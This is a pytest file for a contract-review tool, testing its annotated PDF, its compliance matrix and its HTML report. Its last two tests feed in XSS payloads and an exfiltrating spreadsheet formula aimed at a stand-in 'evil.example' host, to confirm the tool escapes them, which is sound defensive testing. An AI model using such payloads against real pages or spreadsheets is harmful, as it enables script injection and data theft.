"""The annotated PDF, the compliance matrix and the HTML report, on two real reviews and
on small hand-built cases."""

import csv
import hashlib
import io
import re
from html.parser import HTMLParser
from urllib.parse import quote

import openpyxl
import pdfplumber
import pypdfium2 as pdfium
import pytest
from pypdf import PdfReader

import checks.profile
import checks.review
from extractors.commitments.extract import extract
from extractors.commitments.model import CommitmentModel
from extractors.parse import parse_bytes, parse_path
from redline.matrix import (
    CANNOT,
    CLARIFY,
    FILLS,
    HEADERS,
    NOT_CHECKED,
    OK,
    matrix_csv,
    matrix_rows,
    matrix_xlsx,
    target_words,
    verdict,
)
from redline.pdf_annotate import COLOURS, PRINT, annotate, target_span
from redline.pdf_notes import wrap
from redline.report import report_html
from schemas import Commitment, Finding, FindingType, Kind, Obligor, Period, Severity, Suggestion, SuggestionKind, Unit
from tests.conftest import CORPUS
from tests.pdfgen import Page, build

DOCS = ["software_dev_qasp_aql.pdf", "doc_hchb_helpdesk_pws_aql.pdf"]


def squash(text: str) -> str:
    """Text as compared here: no whitespace, hyphens, blanks (_) or the reader's cell bars."""
    return re.sub(r"[\s|_\-\u2010\u2011\xad\x02\ufffe]", "", text)


@pytest.fixture(scope="module")
def model():
    return CommitmentModel()


@pytest.fixture(scope="module")
def reviewed(model, shared):
    profile = checks.profile.load_profile("examples/capacity.yaml")
    out = {}
    for name in DOCS:
        path = CORPUS / name
        before = hashlib.sha256(path.read_bytes()).hexdigest()
        doc = parse_path(path)
        items = extract(doc, model)
        found = checks.review.run(checks.review.prepare(doc, items, profile))
        original = path.read_bytes()
        result = annotate(original, doc, found)
        out[name] = dict(path=path, before=before, original=original, doc=doc, items=items, found=found, result=result)
    return out


def highlights(pdf: bytes) -> list[tuple[int, dict]]:
    reader = PdfReader(io.BytesIO(pdf))
    return [
        (i + 1, a.get_object())
        for i, page in enumerate(reader.pages)
        for a in page.get("/Annots", [])
        if a.get_object()["/Subtype"] == "/Highlight"
    ]


def quad_boxes(annot) -> list[tuple[float, float, float, float]]:
    q = [float(v) for v in annot["/QuadPoints"]]
    boxes = []
    for i in range(0, len(q), 8):
        xs, ys = q[i : i + 8 : 2], q[i + 1 : i + 8 : 2]
        boxes.append((min(xs), min(ys), max(xs), max(ys)))
    return boxes


def text_under(pdf: pdfium.PdfDocument, page: int, box: tuple[float, float, float, float]) -> str:
    """PDFium's text inside the middle band of a user-space box: the line, not its neighbours."""
    x0, y0, x1, y1 = box
    dx, dy = 0.4, (y1 - y0) * 0.2
    if pdf[page - 1].get_rotation() in (90, 270):  # the text runs up the page: the band is across x
        dx, dy = (x1 - x0) * 0.2, 0.4
    textpage = pdf[page - 1].get_textpage()
    return textpage.get_text_bounded(left=x0 + dx, bottom=y0 + dy, right=x1 - dx, top=y1 - dy)


@pytest.mark.parametrize("name", DOCS)
def test_each_finding_is_highlighted_on_its_words(reviewed, name):
    r = reviewed[name]
    doc, found, result = r["doc"], r["found"], r["result"]
    assert result.skipped == []  # every finding of these two documents is found on the page
    by_id = {f.id: f for f in found}
    marks = highlights(result.pdf)
    assert len(marks) == len(found) == len(result.located)
    assert sorted(a["/NM"].split("#")[0] for _, a in marks) == sorted(by_id)
    pdf = pdfium.PdfDocument(result.pdf)
    for page, annot in marks:
        f = by_id[annot["/NM"].split("#")[0]]
        start, end = target_span(f)
        seen = "".join(text_under(pdf, page, box) for box in quad_boxes(annot))
        assert squash(seen) == squash(doc.text[start:end]), f.id
        assert tuple(float(v) for v in annot["/C"]) == COLOURS[f.severity]
        assert int(annot["/F"]) & PRINT
        assert f.rationale[:40] in annot["/Contents"]
        popup = annot["/Popup"].get_object()
        assert popup["/Parent"].get_object()["/NM"] == annot["/NM"]


def test_highlight_boxes_hold_the_words_by_pdfplumber_too(reviewed):
    # An independent reader on the unrotated document: text inside each line box.
    r = reviewed["doc_hchb_helpdesk_pws_aql.pdf"]
    by_id = {f.id: f for f in r["found"]}
    with pdfplumber.open(io.BytesIO(r["result"].pdf)) as plumber:
        for page, annot in highlights(r["result"].pdf):
            f = by_id[annot["/NM"].split("#")[0]]
            if f.suggestion is None or f.suggestion.kind is not SuggestionKind.replace:
                continue  # whole table rows: pdfplumber orders cells differently
            p = plumber.pages[page - 1]
            height = float(p.mediabox[3])
            seen = ""
            for x0, y0, x1, y1 in quad_boxes(annot):
                inset = (y1 - y0) * 0.25
                seen += p.crop((x0 + 0.5, height - y1 + inset, x1 - 0.5, height - y0 - inset)).extract_text()
            assert squash(seen) == squash(f.suggestion.replaces), f.id


@pytest.mark.parametrize("name", DOCS)
def test_notes_print_and_the_original_is_untouched(reviewed, name):
    r = reviewed[name]
    reader = PdfReader(io.BytesIO(r["result"].pdf))
    notes = [
        (page, a.get_object())
        for page in reader.pages
        for a in page.get("/Annots", [])
        if a.get_object()["/Subtype"] == "/FreeText" and a.get_object()["/NM"].endswith("#note")
    ]
    assert len(notes) == len(r["found"])  # one a finding; a page's notes that go on a notes page leave a pointer
    for page, note in notes:
        assert int(note["/F"]) & PRINT
        assert "/N" in note["/AP"]  # its own appearance: viewers and print need not regenerate it
        x0, y0, x1, y1 = (float(v) for v in note["/Rect"])
        m = [float(v) for v in page.mediabox]
        assert m[0] <= x0 < x1 <= m[2] and m[1] <= y0 < y1 <= m[3]
    # Notes on one page never overlap.
    for page in reader.pages:
        rects = sorted(
            [float(v) for v in a.get_object()["/Rect"]] for a in page.get("/Annots", []) if a.get_object()["/Subtype"] == "/FreeText"
        )
        for a, b in zip(rects, rects[1:]):
            assert a[2] <= b[0] or b[2] <= a[0] or a[3] <= b[1] or b[3] <= a[1]
    assert hashlib.sha256(r["path"].read_bytes()).hexdigest() == r["before"] == r["doc"].source.sha256
    assert hashlib.sha256(r["original"]).hexdigest() == r["before"]


def test_highlights_and_notes_render_in_colour(reviewed):
    pytest.importorskip("PIL")
    from PIL import ImageStat

    r = reviewed["doc_hchb_helpdesk_pws_aql.pdf"]
    pdf = pdfium.PdfDocument(r["result"].pdf)
    image = pdf[0].render(scale=1).to_pil().convert("RGB")
    height = pdf[0].get_height()

    def mean(x0, y0, x1, y1):  # user-space box, unrotated page
        return ImageStat.Stat(image.crop((int(x0) + 1, int(height - y1) + 1, int(x1) - 1, int(height - y0) - 1))).mean

    by_id = {f.id: f for f in r["found"]}
    checked = 0
    for page, annot in highlights(r["result"].pdf):
        if page == 1 and by_id[annot["/NM"].split("#")[0]].severity is Severity.high:
            for box in quad_boxes(annot):
                red, green, _ = mean(*box)
                assert red > green + 40  # reddish under the words, not white
                checked += 1
    notes = [a.get_object() for a in PdfReader(io.BytesIO(r["result"].pdf)).pages[0]["/Annots"]]
    for note in (a for a in notes if a["/Subtype"] == "/FreeText"):
        assert sum(mean(*(float(v) for v in note["/Rect"]))) < 3 * 245  # drawn, not blank
        checked += 1
    assert checked > 4


@pytest.mark.parametrize("name", DOCS)
def test_matrix_has_one_row_per_commitment(reviewed, name):
    r = reviewed[name]
    rows = matrix_rows(r["doc"], r["items"], r["found"])
    assert [row["text"] for row in rows] == [c.text for c in r["items"]]
    ws = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(rows))).active
    assert ws.max_row == len(r["items"]) + 1
    text_col = list(HEADERS).index("text") + 1
    assert [ws.cell(i + 2, text_col).value for i in range(len(rows))] == [c.text for c in r["items"]]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == ws.dimensions
    header = [c.value for c in ws[1]]
    col = header.index("Capacity") + 1
    for i, row in enumerate(rows, start=2):
        assert ws.cell(i, col).value == row["verdict"]
        assert ws.cell(i, col).fill.start_color.rgb.endswith(FILLS[row["verdict"]])
    assert ws.cell(2, text_col).alignment.wrap_text
    parsed = list(csv.DictReader(io.StringIO(matrix_csv(rows))))
    assert parsed == [{HEADERS[k]: "" if v is None else str(v) for k, v in row.items()} for row in rows]
    unrealistic = {c.span for f in r["found"] if f.type is FindingType.unrealistic for c in f.commitments}
    assert any(row["verdict"] == CANNOT for row in rows)
    assert all(row["verdict"] != CANNOT or c.span in unrealistic for row, c in zip(rows, r["items"]))


@pytest.mark.parametrize("name", DOCS)
def test_report_is_one_safe_page_with_the_high_findings(reviewed, name):
    r = reviewed[name]
    page = report_html(r["doc"], r["items"], r["found"], {"annotated.pdf": "annotated.pdf", "matrix.xlsx": "matrix.xlsx"})

    class Reader(HTMLParser):
        def __init__(self):
            super().__init__()
            self.text, self.tags, self.hrefs = [], [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)
            self.hrefs += [v for k, v in attrs if k in ("href", "src")]

        def handle_data(self, data):
            self.text.append(data)

    reader = Reader()
    reader.feed(page)
    text = "".join(reader.text)
    highs = [f for f in r["found"] if f.severity is Severity.high]
    assert highs and all(f.rationale in text for f in highs)
    assert "script" not in reader.tags and "<script" not in page.lower()
    assert not any(h.startswith(("http", "//", "javascript")) for h in reader.hrefs) and "http" not in page
    # page links open the annotated copy beside the report (the original is not in the folder)
    assert "annotated.pdf#page=1" in reader.hrefs and "matrix.xlsx" in reader.hrefs
    assert not any(h.startswith(quote(name)) for h in reader.hrefs)
    assert r["doc"].source.name in text


# Hand-built cases.


def commitment(**kw) -> Commitment:
    base = dict(doc="d", text="t", kind=Kind.service_level, obligor=Obligor.provider)
    return Commitment(**{**base, **kw})


@pytest.mark.parametrize(
    "value, unit, period, words",
    [
        (99.9, Unit.percent, None, "99.9%"),
        (4, Unit.business_hour, None, "4 business hours"),
        (1, Unit.business_day, None, "1 business day"),
        (1, Unit.per_month, None, "1 per month"),
        (2, Unit.per_week, Period.month, "2 per week"),
        (30, Unit.minute, None, "30 minutes"),
        (52.5, Unit.hours_per_week, None, "52.5 hours per week"),
        (25000, Unit.currency, None, "25,000 (money)"),
        (3, Unit.count, None, "3"),
        (99.5, Unit.percent, Period.month, "99.5% per month"),
        (None, Unit.hour, None, ""),
    ],
)
def test_target_words(value, unit, period, words):
    assert target_words(commitment(value=value, unit=unit, period=period)) == words


@pytest.mark.parametrize(
    "types, expected",
    [
        (set(), NOT_CHECKED),
        ({FindingType.unrealistic}, CANNOT),
        ({FindingType.unrealistic, FindingType.vague}, CANNOT),
        ({FindingType.vague}, CLARIFY),
        ({FindingType.one_sided}, CLARIFY),
        ({FindingType.inconsistent}, CLARIFY),
        ({FindingType.silent}, CLARIFY),
    ],
)
def test_verdict(types, expected):
    assert verdict(types) == expected


def finding(fid: str, type_: FindingType, severity: Severity, about: list[Commitment], suggestion=None) -> Finding:
    return Finding(id=fid, type=type_, severity=severity, check="c", doc="doc.pdf", commitments=about, rationale=f"why {fid}", suggestion=suggestion)


def test_matrix_ties_findings_to_the_right_target_of_a_shared_sentence():
    doc = parse_bytes(build([Page().text(72, 72, "Severity 1 calls are answered in 15 minutes and resolved in 2 hours.")]), "t://d.pdf", "d.pdf")
    span = doc.blocks[0].span
    fast = commitment(text=doc.blocks[0].text, value=15, unit=Unit.minute, span=span, block=0, page=1)
    slow = commitment(text=doc.blocks[0].text, value=2, unit=Unit.hour, span=span, block=0, page=1)
    other = commitment(text="x", value=1, unit=Unit.hour, span=(0, 1), block=0, page=1)
    fix = Suggestion(kind=SuggestionKind.question, text="Is 1 hour enough?")
    found = [finding("a", FindingType.unrealistic, Severity.high, [fast]), finding("b", FindingType.vague, Severity.low, [fast, slow], fix)]
    rows = matrix_rows(doc, [fast, slow, other], found)
    assert [r["verdict"] for r in rows] == [CANNOT, CLARIFY, NOT_CHECKED]
    assert matrix_rows(doc, [fast, slow, other], found, checked=[2])[2]["verdict"] == OK
    assert [r["severity"] for r in rows] == ["high", "low", ""]
    assert rows[1]["response"] == "Ask: Is 1 hour enough?" and rows[1]["findings"] == "Vague: c"


def test_a_span_across_a_page_break_is_highlighted_on_both_pages():
    p1 = Page().text(72, 700, "The Government will review each deliverable and provide comments")
    p2 = Page().text(72, 72, "within ten working days of receipt.")
    data = build([p1, p2])
    doc = parse_bytes(data, "t://d.pdf", "d.pdf")
    block = next(b for b in doc.blocks if len(b.loc.regions or []) == 2)
    start = block.span[0] + block.text.index("provide comments")
    end = block.span[0] + block.text.index(" of receipt")
    fix = Suggestion(kind=SuggestionKind.replace, text="x", replaces=doc.text[start:end], span=(start, end))
    f = finding("span", FindingType.unrealistic, Severity.medium, [commitment(span=block.span, block=block.index)], fix)
    result = annotate(data, doc, [f])
    marks = highlights(result.pdf)
    assert [p for p, _ in marks] == [1, 2]
    pdf = pdfium.PdfDocument(result.pdf)
    seen = ["".join(text_under(pdf, p, b) for b in quad_boxes(a)) for p, a in marks]
    assert [squash(s) for s in seen] == [squash("provide comments"), squash("within ten working days")]
    assert all(tuple(float(v) for v in a["/C"]) == COLOURS[Severity.medium] for _, a in marks)


def test_rotated_page_and_unfound_words():
    page = Page(rotate=90).text(72, 100, "Priority 1 incidents are answered within 15 minutes.")
    data = build([page])
    doc = parse_bytes(data, "t://d.pdf", "d.pdf")
    block = doc.blocks[0]
    start = block.span[0] + block.text.index("15 minutes")
    fix = Suggestion(kind=SuggestionKind.replace, text="4 hours", replaces="15 minutes", span=(start, start + 10))
    ok = finding("ok", FindingType.unrealistic, Severity.high, [commitment(span=block.span, block=0)], fix)
    lost = finding("lost", FindingType.silent, Severity.low, [])
    result = annotate(data, doc, [ok, lost])
    [skipped] = result.skipped  # said for a person: the finding's type, id and why
    assert skipped.startswith("the silent finding (lost) has its note but no highlight: ")
    (p, mark), = highlights(result.pdf)
    pdf = pdfium.PdfDocument(result.pdf)
    assert squash("".join(text_under(pdf, p, b) for b in quad_boxes(mark))) == "15minutes"
    reader = PdfReader(io.BytesIO(result.pdf))
    notes = [a.get_object() for a in reader.pages[0]["/Annots"] if a.get_object()["/Subtype"] == "/FreeText"]
    assert len(notes) == 2  # the unfound finding still gets its note
    assert data == build([page])  # the input bytes were not changed in place


@pytest.mark.parametrize(
    "text, width, lines",
    [
        ("one two three", 1000, ["one two three"]),
        ("one two three", 40, ["one two", "three"]),
        ("one two three", 30, ["one", "two", "three"]),
        ("a\nb", 100, ["a", "b"]),
        ("abcdefghij", 12, ["ab", "cd", "ef", "gh", "ij"]),  # a word wider than the column is cut
    ],
)
def test_wrap(text, width, lines):
    assert wrap(text, 10, width) == lines


def test_report_escapes_what_it_quotes():
    doc = parse_bytes(build([Page().text(72, 72, "Uptime is <b>99.99%</b> & more.")]), "t://d.pdf", 'a"<i>.pdf')
    c = commitment(text=doc.blocks[0].text, value=99.99, unit=Unit.percent, span=doc.blocks[0].span, block=0, page=1)
    bad = finding("x", FindingType.unrealistic, Severity.high, [c], Suggestion(kind=SuggestionKind.question, text="<script>alert(1)</script>"))
    bad.rationale = "<img src=x onerror=alert(1)> 99.99% & 4.3 minutes"
    page = report_html(doc, [c], [bad], {"matrix": "javascript:alert(1)"})
    assert "<script" not in page and "<img" not in page and "<b>" not in page and "<i>" not in page
    assert "&lt;img src=x onerror=alert(1)&gt; 99.99% &amp; 4.3 minutes" in page
    assert "javascript:" not in page  # links are quoted into relative paths


def test_document_text_never_becomes_a_spreadsheet_formula():
    """A hostile document's sentence that starts with "=" stays text in both matrices."""
    from redline.matrix import COLUMNS

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [{k: None for k in COLUMNS} | {"text": evil, "verdict": OK}, {k: None for k in COLUMNS} | {"text": "-5 days", "verdict": OK}]
    cell = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(rows)))["Commitments"].cell(2, list(COLUMNS).index("text") + 1)
    assert cell.data_type == "s" and cell.value == "'" + evil
    read = list(csv.DictReader(io.StringIO(matrix_csv(rows))))
    assert read[0]["Requirement"] == "'" + evil
    assert read[1]["Requirement"] == "'-5 days"  # Excel would read it as =-5 days (tests/test_hostile_text.py has more)
